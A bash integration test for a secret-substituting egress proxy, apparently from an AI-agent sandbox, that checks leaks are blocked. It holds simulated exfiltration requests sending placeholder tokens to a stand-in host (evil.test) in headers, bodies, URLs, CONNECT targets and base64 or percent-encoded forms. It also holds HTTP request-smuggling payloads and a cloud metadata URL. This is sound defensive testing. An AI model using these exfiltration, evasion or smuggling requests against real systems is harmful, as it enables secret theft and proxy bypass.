#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# The egress proxy on the host, through tests/unit/proxy-listen (the proxy core on a 127.0.0.1
# listener) with real peers: curl, Python's http.server over ssl with a test CA, a raw TCP
# server, and tests/integration/proxy-raw.py for the bytes curl would never send. Every case
# checks what reached the upstream server (its request log), not just the proxy's answer, so
# each fails when its defence is removed:
#   substitution in headers and in Authorization: Basic to a bound host and its subdomains,
#   over plain HTTP only for a secret set with allow_plain_http (refused, 403, otherwise);
#   451 and the compromise hook for an unbound host, look-alikes, a body (chunked, split across
#   chunks; streamed past the buffer), a URL, the method, a CONNECT target or field (before any
#   connect), an opaque tunnel; never substituted in the URL or
#   body; CONNECT/SNI/Host disagreements refused; request smuggling refused; a client sending one
#   byte per second does not stall the others; the egress policy and private addresses (a deny
#   rule seeing through IPv4-mapped, NAT64, 6to4 and Teredo addresses); the
#   audit trail holds names, never values.
# Run through tests/integration/run-one, which sources lib.sh.
set -euo pipefail

for cmd in curl openssl python3 bc; do
    command -v $cmd >/dev/null || skip "$cmd not found"
done
pick_python
need_proxy_listen
peer=$top_srcdir/tests/integration/proxy-peer.py
raw=$top_srcdir/tests/integration/proxy-raw.py
w=$test_tmpdir

# A test CA and one server certificate for every name the tests use.
names="api.bound.test sub.api.bound.test evil.test evil-api.bound.test api.bound.test.evil.test"
san=$(for n in $names; do printf 'DNS:%s,' "$n"; done)
make_test_certs "$w" "slate proxy test CA" api.bound.test "${san%,}"

pids=()
on_exit stop_bg pids
start_http_peers "$w"
$py "$peer" tcp --port-file "$w/tcp.port" --log "$w/tcp.log" &
pids+=($!)
wait_file "$w/tcp.port"
cp=$(cat "$w/tcp.port")
: >"$w/tcp.log"

real_gh=ghp_R3alT0kenR3alT0kenR3alT0kenR3alT0ken9
real_key=real-generic-value-0123456789
cat >"$w/secrets.json" <<EOF
[{"key": "GH_TOKEN", "kind": "github", "hosts": ["api.bound.test"], "value": "$real_gh"},
 {"key": "API_KEY", "kind": "generic", "hosts": ["plain.bound.test"], "value": "$real_key",
  "allow_plain_http": true}]
EOF
policy() { echo "$1" >"$w/policy.json"; }
policy '{"default": "allow-all", "rules": [{"action": "allow", "host": "127.0.0.1"}]}'
connect_to=
for n in $names; do connect_to+="$n:443:127.0.0.1:$tp,"; done
for n in plain.bound.test evil.test sub.plain.bound.test; do connect_to+="$n:80:127.0.0.1:$pp,"; done
connect_to+="api.bound.test:80:127.0.0.1:$pp,api.bound.test:8080:127.0.0.1:$pp,"
# IPv6 addresses carrying 203.0.113.7: mapped, NAT64 /96 and local-use /48, 6to4, Teredo (client
# 203.0.113.7). Each leads to the plain server, so one let through would be seen arriving.
embedded="::ffff:203.0.113.7 64:ff9b::cb00:7107 64:ff9b:1:cb00:71:700:: 2002:cb00:7107::1
    2001:0:4136:e378:8000:63bf:34ff:8ef8"
for a in $embedded; do connect_to+="[$a]:80:127.0.0.1:$pp,"; done
connect_to+="tunnel.bound.test:22:127.0.0.1:$cp,plain.bound.test:22:127.0.0.1:$cp"
# API_KEY's placeholder as a CONNECT target's first label leads to the raw TCP server too, so
# that a proxy which resolved or connected such a target would be seen doing it (and would
# never ask a real resolver). The placeholders are derived from the fixed test salt: a first
# proxy-listen only writes them.
"$listen" --state "$w/install" --secrets "$w/secrets.json" --placeholders "$w/ph0.json" \
    --port-file "$w/proxy0.port" >/dev/null 2>&1 &
pre=$!
wait_file "$w/proxy0.port" "$pre"
stop_bg pre
lkey=$($py -c 'import json,sys; print(json.load(open(sys.argv[1]))["API_KEY"].lower())' "$w/ph0.json")
connect_to+=",$lkey.evil.test:22:127.0.0.1:$cp"
start_proxy_listen "$w" "$connect_to"
ph() { $py -c 'import json,sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' "$w/ph.json" "$1"; }
GH=$(ph GH_TOKEN)
KEY=$(ph API_KEY)
log "placeholders: $GH $KEY"
[ "$(stat -c %a "$w/install/egress-ca.key")" = 600 ] || fail "the egress CA key is not 0600"

pc() { curl -gsS --max-time 20 --proxy "http://127.0.0.1:$px" --cacert "$w/install/egress-ca.crt" "$@"; }
code() { pc -o "$w/body" -w '%{http_code}' "$@" 2>/dev/null || true; }
leaks() { grep -c '"type":"compromised"' "$w/events.jsonl" || true; }
send() { $py "$raw" send "$px" "$1"; }
# Whether a whole request for path $1 arrived at a server (cut ones are logged INCOMPLETE).
reached() { cat "$w/plain.log" "$w/tls.log" | grep -v '^INCOMPLETE' | grep -qF -- " $1"; }

# ---- substitution, bound hosts ----
pc -H "Authorization: token $GH" "https://api.bound.test/a" >"$w/out"
grep -qF "token $real_gh" "$w/out" || fail "the real value did not reach the bound host: $(cat "$w/out")"
grep -qF "$GH" "$w/out" && fail "the placeholder reached the bound host"
pc -H "Authorization: token $GH" "https://sub.api.bound.test/b" >"$w/out"
grep -qF "$real_gh" "$w/out" || fail "a subdomain at a dot boundary is bound"
# Real values go over verified TLS only: GH_TOKEN (no --allow-plain-http) towards its bound host
# over plain http://, on any port, in a header or Basic credentials: 403 naming the secret,
# nothing forwarded, no leak. API_KEY below was set with allow_plain_http, the opt-in.
for t in "80/plain1" "8080/plain2"; do
    st=$(code -H "Authorization: token $GH" "http://api.bound.test:$t")
    [ "$st" = 403 ] || fail "plain http to port ${t%%/*}: status $st, want 403"
    grep -qF GH_TOKEN "$w/body" || fail "the refusal does not name the secret: $(cat "$w/body")"
    grep -qF -- "--allow-plain-http" "$w/body" || fail "the refusal does not say what to do"
done
[ "$(code -u "x:$GH" "http://api.bound.test/plain3")" = 403 ] || fail "plain http, Basic credentials"
for i in 1 2 3; do reached "/plain$i" && fail "plain http request $i reached the server"; done
grep -qF "$real_gh" "$w/plain.log" && fail "GH_TOKEN's real value went over plain HTTP"
[ "$(leaks)" = 0 ] || fail "a plain-HTTP refusal towards a bound host was reported as a leak"
# Case and one trailing dot do not make another host (raw: curl would tidy them).
send "GET http://PLAIN.Bound.TEST./case HTTP/1.1\r\nHost: plain.bound.test\r\nX-Key: $KEY\r\n\r\n" >"$w/st"
[ "$(cat "$w/st")" = 200 ] || fail "uppercase host with a trailing dot: $(cat "$w/st")"
# Authorization: Basic, decoded and encoded again.
pc -u "user:$KEY" "http://plain.bound.test/basic" >"$w/out"
want=$(printf 'user:%s' "$real_key" | base64 -w0)
grep -qF "Basic $want" "$w/out" || fail "Basic credentials not substituted: $(cat "$w/out")"
# Never in the URL or the body, even to the bound host.
pc --data "k=$KEY" "http://plain.bound.test/q?key=$KEY" >"$w/out"
grep -qF "$real_key" "$w/out" && fail "a placeholder in the URL or body was substituted"
grep -qF "/q?key=$KEY" "$w/out" || fail "the URL placeholder did not go as it was"
grep -qF "k=$KEY" "$w/out" || fail "the body placeholder did not go as it was"
[ "$(leaks)" = 0 ] || fail "a leak was reported for bound hosts"
# A body past the scan buffer streams (curl sends Expect: 100-continue), whole, chunked too.
head -c 3000000 /dev/zero | tr '\0' x >"$w/upload"
pc --data-binary @"$w/upload" http://plain.bound.test/upload >"$w/out"
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); sys.exit(len(d["body"]) != 3000000)' \
    "$w/out" || fail "a 3 MB upload did not arrive whole"
pc -H "Transfer-Encoding: chunked" --data-binary @"$w/upload" \
    https://api.bound.test/upload-chunked >"$w/out"
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); sys.exit(len(d["body"]) != 3000000)' \
    "$w/out" || fail "a 3 MB chunked upload did not arrive whole"

# ---- leaks: 451, the hook, nothing forwarded ----
n=0
expect_leak() { # what status
    local what=$1 st=$2
    n=$((n + 1))
    [ "$st" = 451 ] || fail "$what: status $st, want 451"
    [ "$(leaks)" = "$n" ] || fail "$what: the compromise hook did not run"
}
expect_leak "unbound host" "$(code -H "Authorization: token $GH" https://evil.test/steal1)"
grep -q "compromised" "$w/body" || fail "the 451 does not explain: $(cat "$w/body")"
reached /steal1 && fail "the leaking request reached the server"
expect_leak "evil-<bound>" "$(code -H "X-T: $GH" https://evil-api.bound.test/steal2)"
expect_leak "<bound>.evil.test" "$(code -H "X-T: $GH" https://api.bound.test.evil.test/steal3)"
expect_leak "uppercase look-alike" "$(send "GET http://EVIL.TEST/steal4 HTTP/1.1\r\nHost: EVIL.TEST\r\nX-K: $KEY\r\n\r\n")"
expect_leak "trailing-dot look-alike" "$(send "GET http://evil.test./steal5 HTTP/1.1\r\nHost: evil.test.\r\nX-K: $KEY\r\n\r\n")"
expect_leak "URL" "$(code "http://evil.test/steal6?k=$KEY")"
expect_leak "percent-encoded URL" "$(code "http://evil.test/steal7?k=$(printf %s "$KEY" | sed 's/_/%5F/')")"
expect_leak "body" "$(code --data "k=$KEY" http://evil.test/steal8)"
expect_leak "Basic credentials" "$(code -u "u:$KEY" http://evil.test/steal9)"
half=$((${#KEY} / 2))
expect_leak "chunked body, split across chunks" \
    "$($py "$raw" chunks "$px" http://evil.test/steal10 "x=${KEY:0:$half}" "${KEY:$half}&y")"
expect_leak "streamed body past the buffer" \
    "$($py "$raw" bigbody "$px" http://evil.test/steal11 1000000 700000 "$KEY")"
# The method, and a CONNECT's target and fields, are scanned before anything is resolved or
# connected ("CONNECT PH.attacker.example:443" would hand the placeholder to its DNS server).
expect_leak "method" "$(send "$KEY http://evil.test/steal12 HTTP/1.1\r\nHost: evil.test\r\n\r\n")"
grep -q '"where":"method"' "$w/events.jsonl" || fail "the leak event does not say method"
conns=$(grep -c '^#connected' "$w/tcp.log" || true)
expect_leak "CONNECT target" \
    "$(send "CONNECT $KEY.evil.test:22 HTTP/1.1\r\nHost: $KEY.evil.test:22\r\n\r\n")"
expect_leak "CONNECT field" \
    "$(send "CONNECT tunnel.bound.test:22 HTTP/1.1\r\nHost: tunnel.bound.test:22\r\nX-T: $KEY\r\n\r\n")"
[ "$(grep -c '^#connected' "$w/tcp.log" || true)" = "$conns" ] ||
    fail "the proxy connected for a CONNECT that carried a placeholder"
for i in 1 2 3 4 5 6 7 8 9 10 11 12; do reached "/steal$i" && fail "leak $i reached the server"; done
cat "$w"/*.partial >"$w/partials" 2>/dev/null || true
grep -qF "$KEY" "$w/partials" && fail "part of a cut request carried the placeholder"
# An opaque tunnel (not TLS), scanned raw: cut, reported, the placeholder never arrives whole.
[ "$($py "$raw" tunnel "$px" tunnel.bound.test:22 "SSH-2.0-x harmless")" = echoed ] ||
    fail "an opaque tunnel does not relay"
[ "$($py "$raw" tunnel "$px" tunnel.bound.test:22 "login $GH")" = closed ] ||
    fail "a placeholder in an opaque tunnel to an unbound host was relayed"
expect_leak "opaque tunnel" 451
grep -qF "$GH" "$w/tcp.log" && fail "the tunnel's peer received the placeholder"

# ---- encoded placeholders (proxy/tripwire.h): the first thing a hijacked agent tries ----
# enc FORM [PREFIX]: KEY encoded whole, after PREFIX (which sets the base64 alignment).
enc() {
    $py - "$1" "${2:-}" "$KEY" <<'PY'
import base64, sys
form, prefix, key = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
if form == "pct":
    print("".join("%%%02X" % b for b in key))
elif form == "pct-lower":
    print("".join("%%%02x" % b for b in key))
elif form == "json-u":
    print('{"k": "' + "".join("\\u%04x" % b for b in key) + '"}')
elif form == "b64":
    print(base64.b64encode(prefix + key).decode())
elif form == "b64url":
    print(base64.urlsafe_b64encode(prefix + key).decode().rstrip("="))
PY
}
expect_enc() { # what encoding-name status
    expect_leak "$1" "$3"
    grep -qF "$2" "$w/body" || fail "$1: the 451 does not say $2: $(cat "$w/body")"
    tail -n 1 "$w/events.jsonl" | grep -qF "\"encoding\":\"$2" ||
        fail "$1: the leak event lacks the encoding: $(tail -n 1 "$w/events.jsonl")"
}
expect_enc "percent-encoded header" percent-encoded "$(code -H "X-T: $(enc pct)" http://evil.test/enc1)"
expect_enc "percent-encoded form body, lower case" percent-encoded \
    "$(code --data "k=$(enc pct-lower)" http://evil.test/enc2)"
expect_enc "\\u-escaped JSON body" json-escaped \
    "$(code -H 'Content-Type: application/json' --data "$(enc json-u)" http://evil.test/enc3)"
for a in "" a ab; do
    expect_enc "base64 body, ${#a} bytes before" base64-encoded \
        "$(code --data-binary "$(enc b64 "$a")" http://evil.test/enc4-${#a})"
done
# (named base64url-encoded only where the URL-safe alphabet's form differs: unit-tested)
expect_enc "base64url in the URL" base64 \
    "$(code "http://evil.test/enc5?state=$(enc b64url "{\"t\":\"")")"
expect_enc "base64 header (not Basic)" base64-encoded \
    "$(code -H "X-Auth: Bearer $(enc b64 "tok=")" http://evil.test/enc6)"
expect_enc "base64 in a streamed body past the buffer" base64-encoded \
    "$($py "$raw" bigbody "$px" http://evil.test/enc7 1000000 700001 "$(enc b64 x)")"
[ "$($py "$raw" tunnel "$px" tunnel.bound.test:22 "login $(enc b64 ab)")" = closed ] ||
    fail "a base64 placeholder in an opaque tunnel to an unbound host was relayed"
expect_leak "base64 in an opaque tunnel" 451
for x in 1 2 3 4-0 4-1 4-2 5 6 7; do reached "/enc$x" && fail "encoded leak enc$x reached the server"; done
# Towards a host the secret is bound to an encoded placeholder goes as it is (only the
# placeholder as it stands is substituted), and is no leak.
pc -H "X-T: $(enc b64 ab)" --data "k=$(enc pct)" "http://plain.bound.test/enc-bound" >"$w/out"
grep -qF "$(enc b64 ab)" "$w/out" || fail "an encoded placeholder to its bound host was altered"
grep -qF "$real_key" "$w/out" && fail "an encoded placeholder was substituted"
# Near misses are not leaks: the same encodings of a string one character off (inside the tail
# the encoded forms are made of).
i=$((${#KEY} - 16))
other=${KEY:0:$i}$([ "${KEY:$i:1}" = A ] && echo B || echo A)${KEY:$((i + 1))}
near=$(printf %s "$other" | base64 -w0)
[ "$(code -H "X-T: $near" --data "k=$(KEY=$other enc pct)" http://evil.test/near)" = 200 ] ||
    fail "a near miss was taken for an encoded placeholder: $(cat "$w/body")"
[ "$(leaks)" = "$n" ] || fail "a bound or near-miss request was reported as a leak"

# ---- CONNECT, SNI and Host must agree ----
[ "$($py "$raw" tls "$px" evil.test:443 api.bound.test "$w/install/egress-ca.crt")" = \
    handshake-failed ] || fail "SNI api.bound.test inside CONNECT evil.test was accepted"
[ "$($py "$raw" tls "$px" api.bound.test:443 evil.test "$w/install/egress-ca.crt")" = \
    handshake-failed ] || fail "SNI evil.test inside CONNECT api.bound.test was accepted"
[ "$($py "$raw" tls "$px" api.bound.test:443 api.bound.test "$w/install/egress-ca.crt")" = \
    handshake-ok ] || fail "a matching SNI was refused"
# A ClientHello sent along with the CONNECT (before the 200) would pass uninspected: refused.
send "CONNECT api.bound.test:443 HTTP/1.1\r\nHost: api.bound.test:443\r\n\r\n\x16\x03\x01\x00\x05hello" >/dev/null
grep -q "TLS handshake sent before" "$w/events.jsonl" || fail "a pipelined ClientHello went through"
[ "$(code -H "Host: evil.test" -H "X-T: $GH" https://api.bound.test/mis1)" = 421 ] ||
    fail "Host evil.test inside a tunnel to api.bound.test was accepted"
[ "$(send "GET http://plain.bound.test/mis2 HTTP/1.1\r\nHost: evil.test\r\n\r\n")" = 421 ] ||
    fail "absolute-form target and Host disagreeing was accepted"
[ "$(send "GET http://plain.bound.test@evil.test/mis3 HTTP/1.1\r\nHost: evil.test\r\n\r\n")" = 400 ] ||
    fail "userinfo in the target was accepted"
for i in 1 2 3; do reached "/mis$i" && fail "mismatch $i reached a server"; done

# ---- strict framing: refused, never forwarded ----
target="http://plain.bound.test"
smuggle() { # name want payload (the request line is added)
    local st
    st=$(send "POST $target/$1 HTTP/1.1\r\nHost: plain.bound.test\r\n$3")
    [ "$st" = "$2" ] || fail "smuggling case $1: status $st, want $2"
    reached "/$1" && fail "smuggling case $1 reached the server"
    return 0
}
smuggle cl-te 400 "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
smuggle te-not-last 400 "Transfer-Encoding: chunked, x\r\n\r\n0\r\n\r\n"
smuggle te-trailing-comma 400 "Transfer-Encoding: chunked,\r\n\r\n0\r\n\r\n"
smuggle te-other 501 "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"
smuggle te-twice 400 "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
smuggle cl-differ 400 "Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!"
smuggle cl-list 400 "Content-Length: 5, 6\r\n\r\nhello!"
smuggle cl-sign 400 "Content-Length: +5\r\n\r\nhello"
smuggle obs-fold 400 "X-A: a\r\n b\r\nContent-Length: 0\r\n\r\n"
smuggle bare-cr 400 "X-A: a\rb\r\nContent-Length: 0\r\n\r\n"
smuggle bare-lf 400 "X-A: a\nContent-Length: 0\r\n\r\n"
smuggle nul 400 "X-A: a\x00b\r\nContent-Length: 0\r\n\r\n"
smuggle space-colon 400 "Content-Length : 5\r\n\r\nhello"
smuggle bad-chunk 400 "Transfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n"
long=$(head -c 9000 /dev/zero | tr '\0' a)
[ "$(send "GET $target/$long HTTP/1.1\r\nHost: plain.bound.test\r\n\r\n")" = 414 ] ||
    fail "a 9000-byte request line was not refused with 414"
big=$(head -c 70000 /dev/zero | tr '\0' a)
[ "$(send "GET $target/big-head HTTP/1.1\r\nHost: plain.bound.test\r\nX-Big: $big\r\n\r\n")" = 431 ] ||
    fail "a 70 kB head was not refused with 431"
reached "/big-head" && fail "the oversized head reached the server"
# The control: the same shape, well-formed, does arrive (so "not reached" above means something).
smuggle_ok=$(send "POST $target/well-formed HTTP/1.1\r\nHost: plain.bound.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
[ "$smuggle_ok" = 200 ] && reached /well-formed || fail "a well-formed chunked request failed: $smuggle_ok"

# ---- one byte per second does not stall the others ----
$py "$raw" slow "$px" "http://plain.bound.test/slow" &
slow=$!
pids+=($slow)
sleep 1.5
t0=$(date +%s.%N)
for i in $(seq 20); do
    [ "$(code "http://plain.bound.test/fast$i")" = 200 ] || fail "request $i beside a slow client failed"
done
[ "$(code -H "Authorization: token $GH" https://api.bound.test/fast-tls)" = 200 ] ||
    fail "an intercepted request beside a slow client failed"
t=$(echo "$(date +%s.%N) - $t0" | bc)
log "21 requests beside a one-byte-per-second client: ${t}s"
[ "$(echo "$t < 5" | bc)" = 1 ] || fail "the other clients were stalled (${t}s)"
kill "$slow" 2>/dev/null || true

# ---- WebSocket: passes through after the handshake ----
$py "$raw" ws "$px" api.bound.test "$w/install/egress-ca.crt" >"$w/ws"
[ "$(head -1 "$w/ws")" = 101 ] && [ "$(tail -1 "$w/ws")" = echoed ] ||
    fail "WebSocket upgrade: $(cat "$w/ws")"

# ---- egress policy; private addresses only when allowed explicitly ----
policy '{"default": "allow-all"}'
[ "$(code http://plain.bound.test/private)" = 403 ] ||
    fail "a name resolving to 127.0.0.1 was reached without an explicit allow"
grep -q "loopback" "$w/body" || fail "the refusal does not say why: $(cat "$w/body")"
[ "$(code "http://127.0.0.1:$pp/literal")" = 403 ] || fail "127.0.0.1 literal reached"
[ "$(code http://169.254.169.254/latest/meta-data/)" = 403 ] || fail "the metadata address"
[ "$(code http://[::1]:$pp/v6)" = 403 ] || fail "::1 literal reached"
[ "$(code -H "X-T: $GH" https://api.bound.test/private-tls)" = 000 ] ||
    fail "CONNECT to a name resolving to 127.0.0.1 went through"
for p in private literal v6 private-tls; do reached "/$p" && fail "/$p reached a server"; done
policy '{"default": "deny-all", "rules": [{"action": "allow", "host": "127.0.0.1"}, {"action": "allow", "host": "bound.test"}]}'
[ "$(code http://plain.bound.test/allowed)" = 200 ] || fail "allow bound.test: $(cat "$w/body")"
[ "$(code https://api.bound.test/allowed-tls)" = 200 ] || fail "allow bound.test (tls)"
[ "$(code http://evil.test/denied)" = 403 ] || fail "deny-all let evil.test through"
[ "$(code https://evil.test/denied-tls)" = 000 ] || fail "deny-all let CONNECT evil.test through"
policy '{"default": "allow-all", "rules": [{"action": "allow", "host": "127.0.0.1"}, {"action": "deny", "host": "evil.test"}]}'
[ "$(code http://evil.test/denied2)" = 403 ] || fail "deny evil.test"
[ "$(code http://plain.bound.test/ok2)" = 200 ] || fail "allow-all with a deny rule"
for p in denied denied-tls denied2; do reached "/$p" && fail "/$p reached a server"; done
# A deny address rule sees through IPv6 addresses that carry its IPv4 address.
policy '{"default": "allow-all", "rules": [{"action": "allow", "host": "127.0.0.1"}, {"action": "deny", "host": "203.0.113.7"}]}'
i=0
for a in $embedded; do
    i=$((i + 1))
    st=$(code "http://[$a]/embedded$i")
    [ "$st" = 403 ] || fail "deny 203.0.113.7 let [$a] through: status $st"
    grep -q "not allowed by the egress policy" "$w/body" || fail "[$a] refused why? $(cat "$w/body")"
    reached "/embedded$i" && fail "[$a] reached the server"
done
# The control: without the deny rule the same literal does arrive (through --connect-to).
policy '{"default": "allow-all", "rules": [{"action": "allow", "host": "127.0.0.1"}]}'
[ "$(code "http://[64:ff9b::cb00:7107]/embedded-ok")" = 200 ] && reached /embedded-ok ||
    fail "the NAT64 literal without a deny rule: $(cat "$w/body")"

# ---- the audit trail: names, never values; query values redacted ----
grep -q '"substituted":\["GH_TOKEN"\]' "$w/events.jsonl" || fail "no substitution recorded"
grep -q '"path":"/q?key=\*"' "$w/events.jsonl" || grep -q '"path":"\\/q?key=\*"' "$w/events.jsonl" ||
    fail "query values are not redacted: $(grep '/q?' "$w/events.jsonl")"
grep -qF "$real_gh" "$w/events.jsonl" "$w/proxy.log" && fail "a real value in the audit trail"
grep -qF "$real_key" "$w/events.jsonl" "$w/proxy.log" && fail "a real value in the audit trail"
log "events: $(wc -l <"$w/events.jsonl"), leaks blocked: $(leaks)"
